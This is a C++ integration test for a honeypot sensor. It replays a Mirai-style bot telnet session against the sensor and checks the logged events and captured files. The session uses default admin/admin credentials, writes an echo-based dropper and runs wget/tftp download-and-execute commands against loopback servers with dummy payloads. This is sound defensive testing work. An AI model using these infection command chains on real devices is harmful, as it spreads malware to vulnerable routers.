// `mitsu run` as a honeypot, end to end: a bot's sessions over TCP to the sensor, payloads from
// a local HTTP server and a real tftpd-hpa, and the events and files in the store afterwards.

#include <arpa/inet.h>
#include <fmt/format.h>
#include <gtest/gtest.h>
#include <netinet/in.h>
#include <openssl/evp.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <csignal>
#include <fstream>
#include <nlohmann/json.hpp>
#include <sstream>
#include <thread>

#include "core/hex.h"
#include "testing/local_http_server.h"
#include "testing/loopback_client.h"
#include "testing/samba_server.h"
#include "testing/sha256.h"
#include "testing/subprocess.h"
#include "testing/temp_dir.h"

namespace mitsu {
namespace {

using mitsu::testing::sha256_of;

using namespace std::chrono_literals;

TEST(SensorIntegration, BotSessionsEndWithEventsAndFilesInTheStore) {
  testing::TempDir dir("sensor-integration");
  int telnet_port = testing::free_tcp_port();
  int tftp_port = testing::free_udp_port();

  // The attacker's payload hosts: HTTP and a real tftpd-hpa, both on loopback.
  std::string script = "#!/bin/sh\necho second stage\n";
  testing::LocalHttpServer http({{"/bins.sh", {200, script, ""}}});
  std::filesystem::create_directories(dir.path() / "tftp");
  std::string tftp_payload = std::string(
                                 "\x7f"
                                 "ELF\x01\x02\x01",
                                 7) +
                             std::string(3000, 'M');
  std::ofstream(dir.path() / "tftp" / "mips", std::ios::binary) << tftp_payload;
  testing::ChildProcess tftpd({"/usr/sbin/in.tftpd", "--foreground", "--address",
                               fmt::format("127.0.0.1:{}", tftp_port), "--secure",
                               (dir.path() / "tftp").string()});

  std::string config = (dir.path() / "mitsu.toml").string();
  std::ofstream(config) << fmt::format(
      "[sensor]\nid = \"it-sensor\"\nidle_timeout_s = 30\n"
      "[[sensor.listeners]]\npersona = \"home-router\"\nport = {}\n"
      "[download]\nallow = [\"127.0.0.1/32\"]\ntimeout_s = 10\n[api]\nport = 0\n",
      telnet_port);
  std::string data = (dir.path() / "data").string();
  testing::ChildProcess run({MITSU_EXE, "--config", config, "--data-dir", data, "run"});

  std::string dropper = std::string(
                            "\x7f"
                            "ELF\x01\x02\x01",
                            7) +
                        std::string(100, '\x42');
  {
    testing::LoopbackClient c(telnet_port,
                              30s);  // mitsu run may still be starting (GeoIP loads first)
    ASSERT_TRUE(c.connected());
    c.read_until("login: ");
    c.send("admin\r\nadmin\r\n");
    c.read_until("# ");
    c.send("enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox ECCHI\r\ncd /tmp\r\n");
    EXPECT_NE(c.read_until("applet not found").find("ECCHI: applet not found"), std::string::npos);
    for (std::size_t at = 0; at < dropper.size(); at += 40) {
      std::string chunk;
      for (std::size_t i = at; i < std::min(dropper.size(), at + 40); ++i) {
        chunk += fmt::format("\\x{:02x}", static_cast<unsigned char>(dropper[i]));
      }
      c.send(fmt::format("echo -ne '{}' {} .d\r\n", chunk, at == 0 ? ">" : ">>"));
    }
    c.send(fmt::format("wget http://127.0.0.1:{}/bins.sh; chmod 777 bins.sh; sh bins.sh\r\n",
                       http.port()));
    c.send(fmt::format("tftp -g -r mips 127.0.0.1 {}\r\n", tftp_port));
    c.send("chmod 777 .d; ./.d\r\n");
    c.read_until("./.d\r\n");
    std::this_thread::sleep_for(1s);  // downloads finish on the downloader's thread
    c.send("exit\r\n");
    c.read_until("never", 1s);
  }
  run.send_signal(SIGTERM);
  testing::ProcessResult stopped = run.wait();
  ASSERT_EQ(stopped.exit_code, 0) << stopped.err;
  EXPECT_NE(stopped.err.find(fmt::format("home-router (router Netlinq NR-300N, mips) telnet on "
                                         "127.0.0.1:{}",
                                         telnet_port)),
            std::string::npos)
      << stopped.err;
  tftpd.send_signal(SIGTERM);
  (void)tftpd.wait();

  auto events = testing::run_process({MITSU_EXE, "--data-dir", data, "events", "--json"});
  ASSERT_EQ(events.exit_code, 0) << events.err;
  std::map<std::string, std::vector<nlohmann::json>> by_kind;
  std::istringstream lines(events.out);
  for (std::string line; std::getline(lines, line);) {
    auto e = nlohmann::json::parse(line);
    by_kind[e["event"]["action"]].push_back(e);
  }
  EXPECT_EQ(by_kind["sensor.start"].size(), 1u);
  EXPECT_EQ(by_kind["session.open"].size(), 1u);
  EXPECT_EQ(by_kind["session.close"].size(), 1u);
  ASSERT_EQ(by_kind["login.attempt"].size(), 1u);
  EXPECT_EQ(by_kind["login.attempt"][0]["event"]["outcome"], "success");
  EXPECT_EQ(by_kind["login.attempt"][0]["observer"]["name"], "it-sensor") << events.out;
  EXPECT_GE(by_kind["command"].size(), 10u);
  std::set<std::string> downloaded;
  for (const auto& e : by_kind["file.download"]) {
    EXPECT_EQ(e["event"]["outcome"], "success") << e.dump();
    downloaded.insert(e["file"]["hash"]["sha256"].get<std::string>());
  }
  EXPECT_TRUE(downloaded.contains(sha256_of(script))) << events.out;
  EXPECT_TRUE(downloaded.contains(sha256_of(tftp_payload))) << events.out;
  std::set<std::string> uploaded;
  for (const auto& e : by_kind["file.upload"]) {
    uploaded.insert(e["file"]["hash"]["sha256"].get<std::string>());
  }
  EXPECT_TRUE(uploaded.contains(sha256_of(dropper))) << events.out;
  // Each file is in the artifact store under its SHA-256, with the very bytes.
  for (const std::string& sha : {sha256_of(script), sha256_of(tftp_payload), sha256_of(dropper)}) {
    auto path =
        std::filesystem::path(data) / "artifacts" / sha.substr(0, 2) / sha.substr(2, 2) / sha;
    EXPECT_TRUE(std::filesystem::exists(path)) << path;
  }
}

}  // namespace
}  // namespace mitsu
